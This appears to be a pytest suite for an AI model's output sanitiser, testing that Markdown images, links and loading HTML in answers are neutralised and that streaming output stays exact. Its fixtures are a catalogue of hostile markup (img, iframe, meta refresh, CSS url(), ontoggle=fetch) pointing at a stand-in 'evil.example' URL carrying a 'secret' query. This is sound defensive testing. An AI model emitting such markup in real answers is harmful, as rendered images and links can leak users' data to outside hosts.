"""Inert images and links in answers: a catalogue of hostile Markdown and HTML, checked
against what a real CommonMark renderer (markdown-it, raw HTML on) would make of the
output, and exact streaming at every chunking."""

from __future__ import annotations

import random
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.safety.markup import MAX_CONSTRUCT, ImageNeutraliser, neutralise_images

markdown_it = pytest.importorskip("markdown_it")

# --- the oracle: what a renderer would fetch or link ---------------------------------------

_LOADING_TAGS = {
    "img", "image", "picture", "svg", "video", "audio", "source", "track", "iframe", "frame",
    "frameset", "object", "embed", "applet", "portal", "link", "meta", "base", "script",
    "style",
}  # fmt: skip
_URL_ATTRIBUTES = {
    "src", "srcset", "href", "xlink:href", "poster", "data", "background", "action",
    "formaction", "style", "lowsrc", "dynsrc", "ping",
}  # fmt: skip


class _TagAudit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _LOADING_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if value is not None and (name in _URL_ATTRIBUTES or name.startswith("on")):
                self.problems.append(f"<{tag} {name}=...>")


def live_markup(text: str) -> list[str]:
    """Images, links with a hidden target, reference definitions and loading HTML that
    a CommonMark renderer with raw HTML on finds in `text`. Autolinks (<https://...>)
    show their target and are fine."""
    md = markdown_it.MarkdownIt("commonmark")
    env: dict = {}
    problems = [f"definition {label!r}" for label in env.get("references", {})]
    tokens = md.parse(text, env)
    problems += [f"definition {label!r}" for label in env.get("references", {})]
    stack = list(tokens)
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        if token.type == "image":
            problems.append(f"image {token.attrs.get('src')!r}")
        elif token.type == "link_open" and token.markup != "autolink":
            problems.append(f"link {token.attrs.get('href')!r}")
        elif token.type in ("html_inline", "html_block"):
            audit = _TagAudit()
            # <!-- -->, <!DOCTYPE>, <![CDATA[ load nothing (and trip up HTMLParser).
            audit.feed(token.content.replace("<!", "&lt;!"))
            audit.close()
            problems += audit.problems
    return problems


def test_oracle_sees_what_it_should() -> None:
    assert live_markup("![a](https://e.example/x)")
    assert live_markup("[a](https://e.example/x)")
    assert live_markup("[a][r]\n\n[r]: https://e.example/x")
    assert live_markup('<div style="background:url(https://e.example/x)">')
    assert live_markup("x <img src=https://e.example/x> y")
    assert not live_markup("see <https://e.example/x> and [sic]")


def _stream(text: str, cuts: list[int]) -> str:
    stream = ImageNeutraliser()
    bounds = [0, *sorted(cuts), len(text)]
    out = [stream.feed(text[a:b]) for a, b in zip(bounds, bounds[1:], strict=False)]
    return "".join(out) + stream.flush()


def _check(text: str, expected: str) -> None:
    out = neutralise_images(text)
    assert out == expected
    assert live_markup(out) == [], live_markup(out)
    for size in (1, 2, 3, 7):
        assert _stream(text, list(range(size, len(text), size))) == expected, size


# --- the catalogue: (hostile input, inert output) -------------------------------------------

EVIL = "https://evil.example/c?q=secret"

IMAGES = [
    pytest.param(f"![[x]]({EVIL})", "[image: x]", id="nested-brackets"),
    pytest.param(f"![a [b [c]] d]({EVIL}) ok", "[image: a b c d] ok", id="deeply-nested"),
    pytest.param(f"![a\\]b]({EVIL})", "[image: ab]", id="escaped-close-bracket"),
    pytest.param(f"![a\\[b]({EVIL})", "[image: ab]", id="escaped-open-bracket"),
    pytest.param(f"![x][r]\n\n[r]: {EVIL}", f"[image: x]\n\nr: {EVIL}", id="full-reference"),
    pytest.param(f"![x][]\n\n[x]: {EVIL}", f"[image: x]\n\nx: {EVIL}", id="collapsed-reference"),
    pytest.param(f"![x]\n\n[x]: {EVIL}", f"![x]\n\nx: {EVIL}", id="shortcut-reference"),
    pytest.param(f"[x]: {EVIL}\n\n![x][x]", f"x: {EVIL}\n\n[image: x]", id="definition-first"),
    pytest.param(f"![alt\n]({EVIL})", "[image: alt]", id="alt-across-line-break"),
    pytest.param(f"![a](\n{EVIL}\n)", "[image: a]", id="destination-on-own-line"),
    pytest.param(f"![a](<{EVIL} x>)", "[image: a]", id="angle-destination-with-space"),
    pytest.param(f'![a]({EVIL} "t)i(t")', "[image: a]", id="title-with-parentheses"),
    pytest.param(f"![a]({EVIL} 'title')", "[image: a]", id="single-quoted-title"),
    pytest.param("![a](https://e.example/(x)(y)?q=1)", "[image: a]", id="balanced-parens-url"),
    pytest.param(f"![a]({EVIL})({EVIL})", f"[image: a] ({EVIL})", id="glued-second-parens"),
    pytest.param(f"![a]({EVIL})[b]({EVIL})", f"[image: a] b ({EVIL})", id="glued-link"),
    pytest.param(f"![{'A' * 300}]({EVIL})", f"[image: {'A' * 199}…]", id="alt-over-max-alt"),
    pytest.param(
        f"![{'A' * 1200}]({EVIL})", f"!\\[{'A' * 1200}] ({EVIL})", id="alt-over-max-label"
    ),
    pytest.param(f"![x]({EVIL}", f"[image: x] ({EVIL}", id="unterminated-destination"),
    pytest.param(f"![x]({EVIL} bad title)", f"[image: x] ({EVIL} bad title)", id="bad-title"),
    pytest.param(f"![a ![b]({EVIL}) c]({EVIL})", "[image: a image: b c]", id="image-in-alt"),
    pytest.param(f"![a [b]({EVIL}) c]({EVIL})", f"[image: a b ({EVIL}) c]", id="link-in-alt"),
    pytest.param(f"!![a]({EVIL})", "! [image: a]", id="double-bang"),
    pytest.param(f"\\![a]({EVIL})", f"\\!a ({EVIL})", id="escaped-bang-is-a-link"),
    pytest.param(f"`![a]({EVIL})`", "`[image: a]`", id="in-code-span-too"),
    pytest.param(f"![a `]` b]({EVIL})", f"![a `]` b] ({EVIL})", id="bracket-in-code-span"),
]


@pytest.mark.parametrize(("text", "expected"), IMAGES)
def test_markdown_images_are_inert(text: str, expected: str) -> None:
    _check(text, expected)


LINKS = [
    pytest.param(
        "Read [the docs](https://docs.example.com) first",
        "Read the docs (https://docs.example.com) first",
        id="inline",
    ),
    pytest.param(f'[click]({EVIL} "Title")', f"click ({EVIL})", id="title"),
    pytest.param(f"[{EVIL}]({EVIL})", EVIL, id="text-is-the-url"),
    pytest.param(f"[]({EVIL})", EVIL, id="empty-text"),
    pytest.param("[a]()", "a", id="empty-destination"),
    pytest.param(f"[[x]]({EVIL})", f"[x] ({EVIL})", id="nested-brackets"),
    pytest.param(f"[a\\]b]({EVIL})", f"a\\]b ({EVIL})", id="escaped-bracket"),
    pytest.param(f"[a\nb]({EVIL})", f"a\nb ({EVIL})", id="text-across-line-break"),
    pytest.param(f"[![b](https://e.example/b.svg)]({EVIL})", f"[image: b] ({EVIL})", id="badge"),
    pytest.param(f"[a [b]({EVIL}) c]({EVIL})", f"a b ({EVIL}) c ({EVIL})", id="link-in-link"),
    pytest.param(f"[a](<{EVIL}>)", f"a ({EVIL})", id="angle-destination"),
    pytest.param(
        f"[a](https://x.example/![i]({EVIL}))",
        "a (https://x.example/[image: i])",
        id="image-in-url",
    ),
    pytest.param(f"[a]({EVIL}", f"a ({EVIL}", id="unterminated"),
    pytest.param(f"[{'A' * 1200}]({EVIL})", f"\\[{'A' * 1200}] ({EVIL})", id="text-over-max-label"),
    pytest.param(f"[a `]` b]({EVIL})", f"[a `]` b] ({EVIL})", id="bracket-in-code-span"),
    pytest.param("a\\[b](c)", "a\\[b] (c)", id="escaped-opener-unpaired-close"),
    pytest.param(
        f"[r]: {EVIL}\n\nsee [x][r] and [r]", f"r: {EVIL}\n\nsee [x][r] and [r]", id="references"
    ),
    pytest.param(f"> [r]: {EVIL}\n\n[r]", f"> r: {EVIL}\n\n[r]", id="definition-in-quote"),
    pytest.param(f"- [r]: {EVIL}\n\n[r]", f"- r: {EVIL}\n\n[r]", id="definition-in-list"),
    pytest.param(f"1. [r]: {EVIL}\n\n[r]", f"1. r: {EVIL}\n\n[r]", id="definition-in-ordered-list"),
    pytest.param(
        f"   [r]:\n  {EVIL}\n\n[r]", f"   r:\n  {EVIL}\n\n[r]", id="definition-url-next-line"
    ),
    pytest.param(f"[^1]: {EVIL}\n\n[^1]", f"^1: {EVIL}\n\n[^1]", id="footnote-shaped-definition"),
    pytest.param(f"[[r]]: {EVIL}\n\n[r]", f"[r] : {EVIL}\n\n[r]", id="definition-in-brackets"),
    pytest.param(f"[a\\]: {EVIL}]: {EVIL}", f"a\\]: {EVIL}: {EVIL}", id="definition-escaped-label"),
]


@pytest.mark.parametrize(("text", "expected"), LINKS)
def test_markdown_links_become_text_with_their_target(text: str, expected: str) -> None:
    _check(text, expected)


HTML = [
    pytest.param(f"<img src={EVIL}>", "[image]", id="img"),
    pytest.param(f"<IMG SRC='{EVIL}' onerror=alert(1)>", "[image]", id="img-upper-case"),
    pytest.param(f"<img/src={EVIL}>", "[image]", id="img-slash"),
    pytest.param(f"<img\nsrc={EVIL}\n>", "[image]", id="img-across-lines"),
    pytest.param(f"<img alt='>' src={EVIL}>", "[image]", id="img-gt-in-quotes"),
    pytest.param(f"<img\n\nsrc={EVIL}>", "[image]", id="img-blank-line"),
    pytest.param(f"<img alt='<b>' src={EVIL}>", "[image]", id="img-tag-in-quotes"),
    pytest.param(
        f"<img <img <img src={EVIL}", "[image] [image] [image] src=" + EVIL, id="img-img-img"
    ),
    pytest.param(
        f"<pre>\n<div\n\nstyle=background:url({EVIL})>\n</pre>",
        "<pre>\n\n</pre>",
        id="pre-block-blank-line",
    ),
    pytest.param("<div <style>@import url(e)", "< div [style]@import url(e)", id="tag-inside-tag"),
    pytest.param("<div<svg>", "< div[svg]", id="tag-inside-name"),
    pytest.param(
        f'<x a="b <y style=url({EVIL})>" c!d>', '< x a="b " c!d>', id="tag-in-quotes-of-broken-tag"
    ),
    pytest.param(
        f"<table background='{EVIL}?", f"< table background='{EVIL}?", id="dangling-at-end"
    ),
    pytest.param(f"<image href={EVIL}>", "[image]", id="image-tag"),
    pytest.param(f"<svg><image href={EVIL} /></svg>", "[svg][image]</svg>", id="svg-image"),
    pytest.param(f"<svg><use href='{EVIL}#a'/></svg>", "[svg]</svg>", id="svg-use"),
    pytest.param(f"<video poster={EVIL}></video>", "[video]</video>", id="video-poster"),
    pytest.param(f"<video src={EVIL} autoplay>", "[video]", id="video-src"),
    pytest.param(f"<audio src={EVIL}>", "[audio]", id="audio-src"),
    pytest.param(
        f"<video><source src={EVIL} type=video/mp4></video>",
        "[video][source]</video>",
        id="source-src",
    ),
    pytest.param(
        f"<picture><source srcset='{EVIL} 2x'><img src=a.png></picture>",
        "[image][source][image]</picture>",
        id="picture-srcset",
    ),
    pytest.param(f"<input type=image src={EVIL}>", "", id="input-image"),
    pytest.param(f"<iframe src={EVIL}></iframe>", "[iframe]</iframe>", id="iframe"),
    pytest.param(f"<iframe srcdoc='<img src={EVIL}>'>", "[iframe]", id="iframe-srcdoc"),
    pytest.param(f"<object data={EVIL}></object>", "[object]</object>", id="object"),
    pytest.param(f"<embed src={EVIL}>", "[embed]", id="embed"),
    pytest.param(f"<link rel=stylesheet href={EVIL}>", "[link]", id="link"),
    pytest.param(f"<meta http-equiv=refresh content='0;url={EVIL}'>", "[meta]", id="meta-refresh"),
    pytest.param(f"<base href={EVIL}>", "[base]", id="base"),
    pytest.param(
        f"<style>@import url({EVIL});</style>",
        f"[style]@import url({EVIL});</style>",
        id="style-element",
    ),
    pytest.param(f"<script src={EVIL}></script>", "[script]</script>", id="script"),
    pytest.param(
        f'<div style="background:url({EVIL})">x</div>', "x</div>", id="style-attribute-url"
    ),
    pytest.param(f"<p style=background-image:url('{EVIL}')>x", "x", id="style-unquoted"),
    pytest.param(f"<table background={EVIL}>", "", id="background-attribute"),
    pytest.param(f"<details open ontoggle=fetch('{EVIL}')>", "", id="event-handler"),
    pytest.param(
        f"<form action={EVIL}><button>go</button></form>",
        "<button>go</button></form>",
        id="form-action",
    ),
    pytest.param(f'<a href="{EVIL}">click here</a> now', f"click here ({EVIL}) now", id="anchor"),
    pytest.param(
        "<a href='https://x.example/a b'>x</a>", "x (https://x.example/a%20b)", id="anchor-space"
    ),
    pytest.param(
        f'<a href="https://x.example/<img src={EVIL}>">x</a>',
        f"x (https://x.example/%3Cimg%20src={EVIL}%3E)",
        id="anchor-markup-in-href",
    ),
    pytest.param(f"<a href={EVIL}>x", f"x ({EVIL})", id="anchor-never-closed"),
    pytest.param(
        f"<a href=https://a.example>a<a href={EVIL}>b</a>",
        f"a (https://a.example)b ({EVIL})",
        id="anchor-twice",
    ),
    pytest.param("<a name=top>x</a>", "x", id="anchor-without-href"),
    pytest.param(f"<img src={EVIL}>({EVIL})", f"[image] ({EVIL})", id="glued-to-parens"),
    pytest.param(
        f"<img src=x>: {EVIL}\n\n[image]", f"[image] : {EVIL}\n\n[image]", id="glued-to-colon"
    ),
    pytest.param(f"[x]<b style=y>({EVIL})", f"[x] ({EVIL})", id="removal-glues-link"),
    pytest.param(f"<<b style=y>img src={EVIL}>", f"< img src={EVIL}>", id="removal-glues-tag"),
    pytest.param(f"[<img](x) src={EVIL}>", "[image]", id="link-text-makes-tag"),
    pytest.param(f"<img src={EVIL}", f"[image] src={EVIL}", id="unterminated-at-end"),
    pytest.param(
        f"<div title='{'x' * 3000}' style=background:url({EVIL})>", None, id="over-max-construct"
    ),
]


@pytest.mark.parametrize(("text", "expected"), HTML)
def test_html_that_loads_is_inert(text: str, expected: str | None) -> None:
    if expected is None:  # only the safety property and exact streaming are pinned down
        expected = neutralise_images(text)
    _check(text, expected)


LEFT_ALONE = [
    pytest.param("Wow! Great [sic]", id="sic"),
    pytest.param("a < b and c > d", id="comparison"),
    pytest.param("x<y and more", id="less-than-no-space"),
    pytest.param("for (i = 0; i<n; i++) {}", id="c-loop"),
    pytest.param("let v = vec![1, 2, 3];", id="rust-vec-macro"),
    pytest.param("matrix[i][j] = a[0]", id="indexing"),
    pytest.param("def f() -> dict[str, int]:", id="python-annotation"),
    pytest.param("- [ ] todo\n- [x] done", id="task-list"),
    pytest.param("See [1] and [2].", id="citations"),
    pytest.param("Open <https://docs.example.com/a> now", id="autolink"),
    pytest.param("Vec<String> and Option<Box<T>>", id="generics"),
    pytest.param("Map<String, List<Vec<i32>>> m;", id="nested-generics"),
    pytest.param("#include <stdio.h>\nstd::vector<std::pair<int,int>> v;", id="cpp"),
    pytest.param("if a<b then c\n\nnext", id="less-than-at-paragraph-end"),
    pytest.param("<b>bold</b> <em>x</em> <br> <div class=note>", id="harmless-tags"),
    pytest.param("<!-- comment --> <?xml ?> <!DOCTYPE html>", id="comments"),
    pytest.param("https://docs.example.com/path?a=1", id="bare-url"),
    pytest.param("Wow!\n[sic]\n(yes)", id="across-lines"),
    pytest.param("</img> </video> </a>", id="closing-tags"),
    pytest.param("价格<100元，[备注]：无", id="cjk"),
]


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_harmless_text_is_left_alone(text: str) -> None:
    _check(text, text)


# --- streaming --------------------------------------------------------------------------------


def test_stream_releases_plain_text_at_once_and_holds_constructs() -> None:
    stream = ImageNeutraliser()
    assert stream.feed("Hello, here is ") == "Hello, here is "
    assert stream.feed("![cha") == ""
    assert stream.feed(f"rt]({EVIL}") == ""
    assert stream.feed(") and more") == "[image: chart] and more"
    assert stream.feed(" [docs](https://d.example)") == " "  # what comes next matters
    assert stream.feed(" and") == "docs (https://d.example) and"
    assert stream.feed(" <a href=https://d.example>x") == " x"
    assert stream.feed("</a>.") == " (https://d.example)."
    assert stream.flush() == ""


@pytest.mark.parametrize(
    "text",
    [
        "[" + "a" * 5000,
        "![" + "a" * 5000,
        "[a](" + "b" * 5000,
        "<div " + "a" * 5000,
        "<img title='" + "a" * 5000,
        "x<y " * 2000,
        "[x](<div " + "a" * 5000,
    ],
    ids=["label", "alt", "destination", "tag", "quoted-value", "less-than", "both-passes"],
)
def test_stream_hold_back_is_bounded(text: str) -> None:
    stream = ImageNeutraliser()
    out = []
    for ch in text:
        out.append(stream.feed(ch))
        # Each pass holds at most one construct and the character after it.
        assert len(stream._pending) + len(stream._between) <= 2 * (MAX_CONSTRUCT + 2)
    out.append(stream.flush())
    assert "".join(out) == neutralise_images(text)
    assert live_markup("".join(out)) == []


_FRAGMENTS = [
    "![", "[", "]", "(", ")", EVIL, "<", ">", "<img src=x>", "<img", " src=x", "<a href=u>",
    "</a>", "\\", "\n", "\n\n", " ", "`", '"', "'", ":", "!", "x", "<div ", "style=",
    "url(e)", "<svg>", "<image href=e>", "[r]: https://evil.example", "> ", "- ", "1. ",
    "=", "/", "<b>", "title", "vec!", "]:", "](", "![a](b)", "[a](b)", "[r]",
    "<https://ok.example>", "<video poster=p>", "<", "a", "]]", "[[", "<!--", "-->",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    pieces=st.lists(st.sampled_from(_FRAGMENTS), max_size=30),
    cuts=st.lists(st.integers(min_value=0, max_value=600), max_size=12),
)
def test_any_mix_is_inert_and_streams_exactly(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    out = neutralise_images(text)
    assert live_markup(out) == [], (text, out)
    assert _stream(text, [c for c in cuts if c <= len(text)]) == out


@settings(max_examples=150, deadline=None)
@given(text=st.text(max_size=200), cuts=st.lists(st.integers(0, 200), max_size=10))
def test_arbitrary_unicode_streams_exactly(text: str, cuts: list[int]) -> None:
    out = neutralise_images(text)
    assert live_markup(out) == [], (text, out)
    assert _stream(text, [c for c in cuts if c <= len(text)]) == out


def test_long_hostile_input_costs_bounded_work() -> None:
    rng = random.Random(5)
    text = "".join(rng.choice(_FRAGMENTS) for _ in range(20_000))
    out = neutralise_images(text)  # the suite's time budget keeps this linear-ish
    assert live_markup(out) == []
